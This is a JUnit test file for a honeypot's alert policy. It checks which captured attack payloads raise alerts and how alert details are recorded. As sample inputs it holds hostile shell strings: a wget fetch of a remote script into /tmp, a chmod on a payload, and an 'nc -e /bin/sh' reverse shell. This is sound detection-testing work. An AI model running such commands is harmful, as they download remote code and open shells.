package ca.gc.cra.snare.application.alert;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ca.gc.cra.snare.application.port.InMemoryEventStore;
import ca.gc.cra.snare.application.port.RecordingMetricsPort;
import ca.gc.cra.snare.domain.alert.Alert;
import ca.gc.cra.snare.domain.alert.AlertType;
import ca.gc.cra.snare.domain.attack.AttackEvent;
import ca.gc.cra.snare.domain.attack.AttackPattern;
import ca.gc.cra.snare.domain.attack.AttackType;
import ca.gc.cra.snare.domain.attack.Protocol;
import ca.gc.cra.snare.domain.attack.ThreatLevel;
import java.time.Instant;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class AlertPolicyTest {
  private final InMemoryEventStore store = new InMemoryEventStore();
  private final RecordingMetricsPort metrics = new RecordingMetricsPort();
  private final AlertPolicy policy = new AlertPolicy(store, metrics);

  @Test
  void dangerousKeywordRaisesAlertRegardlessOfLevel() {
    AttackEvent event = event(ThreatLevel.LOW, "cd /tmp; WGET http://203.0.113.9/x.sh").withId(41);

    Optional<Alert> alert = policy.evaluate(event);

    assertTrue(alert.isPresent());
    assertEquals(AlertType.DANGEROUS_COMMAND, alert.get().alertType());
    assertEquals(41L, alert.get().attackId());
    assertTrue(alert.get().id() != null);
    assertEquals(1, store.alerts().size());
    assertEquals(1, metrics.count("alert.raised"));
  }

  @Test
  void keywordTakesPrecedenceOverHighLevel() {
    Optional<Alert> alert = policy.evaluate(event(ThreatLevel.CRITICAL, "chmod +x payload"));

    assertEquals(AlertType.DANGEROUS_COMMAND, alert.orElseThrow().alertType());
  }

  @Test
  void highLevelWithoutKeywordRaisesHighThreat() {
    Optional<Alert> alert = policy.evaluate(event(ThreatLevel.HIGH, "USER=root PASS=toor"));

    assertEquals(AlertType.HIGH_THREAT, alert.orElseThrow().alertType());
    assertEquals("threat_level=HIGH attack_type=SSH_BRUTE_FORCE data=USER=root PASS=toor",
        alert.orElseThrow().detail());
  }

  @Test
  void quietEventRaisesNothing() {
    assertTrue(policy.evaluate(event(ThreatLevel.MEDIUM, "SSH-2.0-libssh")).isEmpty());
    assertTrue(store.alerts().isEmpty());
    assertEquals(0, metrics.count("alert.raised"));
  }

  @Test
  void detailKeepsFirstTwoHundredCharacters() {
    String payload = "x".repeat(250);

    String detail = AlertPolicy.detailFor(event(ThreatLevel.HIGH, payload));

    assertTrue(detail.endsWith("data=" + "x".repeat(AlertPolicy.DETAIL_DATA_CHARS)));
  }

  @Test
  void persistFailureStillReturnsAlert() {
    InMemoryEventStore failing = new InMemoryEventStore().failAlertWrites();
    AlertPolicy failingPolicy = new AlertPolicy(failing, metrics);

    Optional<Alert> alert = failingPolicy.evaluate(event(ThreatLevel.HIGH, "nc -e /bin/sh"));

    assertTrue(alert.isPresent());
    assertNull(alert.get().id());
    assertEquals(1, metrics.count("alert.persist.failure"));
  }

  @Test
  void unpersistedAttackYieldsAlertWithoutLink() {
    Alert alert = policy.evaluate(event(ThreatLevel.HIGH, "GET /")).orElseThrow();

    assertNull(alert.attackId());
  }

  private static AttackEvent event(ThreatLevel level, String payload) {
    return new AttackEvent(null, Instant.parse("2024-05-01T10:15:30Z"), "198.51.100.23", 51_515,
        Protocol.SSH, AttackType.SSH_BRUTE_FORCE, payload, level, AttackPattern.BRUTE_FORCE);
  }
}
